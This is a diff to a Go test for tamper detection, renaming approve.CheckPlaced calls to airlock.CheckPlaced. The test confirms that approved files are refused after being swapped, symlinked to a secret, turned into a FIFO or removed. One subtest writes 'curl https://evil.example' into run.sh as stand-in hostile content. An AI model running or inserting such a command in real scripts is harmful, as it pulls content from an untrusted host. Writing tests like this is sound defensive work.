@@ -148,18 +148,18 @@ func TestPlacedFiles(t *testing.T) {
 	job := netJob()
 	want := approve.Of(&job, "process", "acme")
 	check := approve.PlacedCheck(job, "process", "acme", want)
-	ctx := approve.WithPlacedCheck(context.Background(), check)
+	ctx := airlock.WithPlacedCheck(context.Background(), check)
 
 	t.Run("unchanged", func(t *testing.T) {
 		dir := place(t, job)
-		if err := approve.CheckPlaced(ctx, dir); err != nil {
+		if err := airlock.CheckPlaced(ctx, dir); err != nil {
 			t.Fatalf("placed files as approved are refused: %v", err)
 		}
 	})
 	t.Run("content swapped after placing", func(t *testing.T) {
 		dir := place(t, job)
 		os.WriteFile(filepath.Join(dir, "run.sh"), []byte("curl https://evil.example\n"), 0o644)
-		expectStale(t, approve.CheckPlaced(ctx, dir), "differ")
+		expectStale(t, airlock.CheckPlaced(ctx, dir), "differ")
 	})
 	t.Run("file swapped for a symlink", func(t *testing.T) {
 		dir := place(t, job)
@@ -169,7 +169,7 @@ func TestPlacedFiles(t *testing.T) {
 		if err := os.Symlink(secret, filepath.Join(dir, "run.sh")); err != nil {
 			t.Fatal(err)
 		}
-		expectStale(t, approve.CheckPlaced(ctx, dir), "symbolic link")
+		expectStale(t, airlock.CheckPlaced(ctx, dir), "symbolic link")
 	})
 	t.Run("symlink target swapped", func(t *testing.T) {
 		dir := place(t, job)
@@ -179,7 +179,7 @@ func TestPlacedFiles(t *testing.T) {
 		if err := os.Symlink(elsewhere, filepath.Join(dir, "lib")); err != nil {
 			t.Fatal(err)
 		}
-		expectStale(t, approve.CheckPlaced(ctx, dir), "symbolic link")
+		expectStale(t, airlock.CheckPlaced(ctx, dir), "symbolic link")
 	})
 	t.Run("file replaced by a fifo", func(t *testing.T) {
 		dir := place(t, job)
@@ -187,14 +187,14 @@ func TestPlacedFiles(t *testing.T) {
 		if err := unix.Mkfifo(filepath.Join(dir, "lib", "a.txt"), 0o644); err != nil {
 			testenv.Skipf(t, "cannot make a fifo to swap in: %v", err)
 		}
-		expectStale(t, approve.CheckPlaced(ctx, dir), "not a regular file")
+		expectStale(t, airlock.CheckPlaced(ctx, dir), "not a regular file")
 	})
 	t.Run("file missing", func(t *testing.T) {
 		dir := place(t, job)
 		os.Remove(filepath.Join(dir, "run.sh"))
-		expectStale(t, approve.CheckPlaced(ctx, dir), "run.sh")
+		expectStale(t, airlock.CheckPlaced(ctx, dir), "run.sh")
 	})
-	if err := approve.CheckPlaced(context.Background(), t.TempDir()); err != nil {
+	if err := airlock.CheckPlaced(context.Background(), t.TempDir()); err != nil {
 		t.Errorf("a context without a check refuses: %v", err)
 	}
 }
